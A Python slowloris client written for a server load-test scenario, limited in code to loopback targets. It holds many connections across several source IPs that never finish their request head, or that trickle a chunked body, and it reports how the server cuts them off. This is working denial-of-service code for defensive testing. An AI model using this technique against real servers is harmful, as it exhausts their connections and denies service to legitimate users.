#!/usr/bin/env python3
"""A slowloris client for loadtest/ scenario 5 (loopback targets only).

Holds connections that send a request head one byte per interval and never finish it and,
like the classic tool, reopens each one the server closes or refuses on its next tick
(INTERVAL_S, default 1 s), for SECONDS. Prints one JSON line:
  opened        connections established (including ones the server closed at once)
  refused       connection attempts that failed
  cut_at_once   connections the server closed within 0.5 s (a connection cap at accept)
  held_closed   connections the server closed later, and their median age in seconds
                (the header deadline, when the server has one)
  max_open      most attacker connections open at the same time (sampled every 0.25 s)
  open_at_end   attacker connections still open at the end

With MODE `body`, each connection sends a whole `POST` head with a chunked body instead, then
one byte of body per interval (a trickled body: scenario 8), never finishing it.

Usage: slowloris.py HOST PORT SOURCE_IP[,SOURCE_IP...] CONNS_PER_IP SECONDS [INTERVAL_S] [MODE]
"""

import asyncio
import ipaddress
import json
import statistics
import sys
import time


async def main():
    host, port, sources, per_ip, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3].split(","), \
        int(sys.argv[4]), float(sys.argv[5])
    interval = float(sys.argv[6]) if len(sys.argv) > 6 else 1.0
    body_mode = len(sys.argv) > 7 and sys.argv[7] == "body"
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit("slowloris.py targets loopback addresses only")
    end = time.monotonic() + seconds
    st = {"opened": 0, "refused": 0, "cut_at_once": 0, "held_ages": [], "open": 0, "max_open": 0}

    async def holder(src):
        while time.monotonic() < end:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port, local_addr=(src, 0)), 2)
            except (OSError, asyncio.TimeoutError):
                st["refused"] += 1
                await asyncio.sleep(interval)
                continue
            st["opened"] += 1
            st["open"] += 1
            born = time.monotonic()
            closed_by_peer = False
            try:
                head = (b"POST /items HTTP/1.1\r\nHost: loadtest\r\nTransfer-Encoding: chunked\r\n\r\n"
                        if body_mode else b"GET /items HTTP/1.1\r\nHost: loadtest\r\n")
                writer.write(head)
                await writer.drain()
                i = 0
                while time.monotonic() < end:
                    # One more byte of a header line that never ends, then watch for a close.
                    if body_mode:
                        writer.write(b"1\r\nx\r\n")
                    else:
                        writer.write(b"X-Slow-%d: 1\r\n" % i if i % 12 == 11 else b"a")
                    await writer.drain()
                    i += 1
                    try:
                        data = await asyncio.wait_for(reader.read(4096), interval)
                    except asyncio.TimeoutError:
                        continue
                    # EOF, or an answer (408/400) to a head that was never finished: closed.
                    closed_by_peer = True
                    del data
                    break
            except (OSError, ConnectionError):
                closed_by_peer = True
            finally:
                st["open"] -= 1
                writer.close()
            if closed_by_peer:
                age = time.monotonic() - born
                if age < 0.5:
                    st["cut_at_once"] += 1
                else:
                    st["held_ages"].append(age)
                await asyncio.sleep(interval)

    async def sampler():
        while time.monotonic() < end:
            st["max_open"] = max(st["max_open"], st["open"])
            await asyncio.sleep(0.25)

    tasks = [asyncio.create_task(holder(src)) for src in sources for _ in range(per_ip)]
    await sampler()
    open_at_end = st["open"]
    await asyncio.gather(*tasks)
    ages = st["held_ages"]
    print(json.dumps({"opened": st["opened"], "refused": st["refused"], "cut_at_once": st["cut_at_once"],
                      "held_closed": len(ages), "held_median_age_s": round(statistics.median(ages), 2) if ages else 0,
                      "max_open": st["max_open"], "open_at_end": open_at_end}))


if __name__ == "__main__":
    asyncio.run(main())
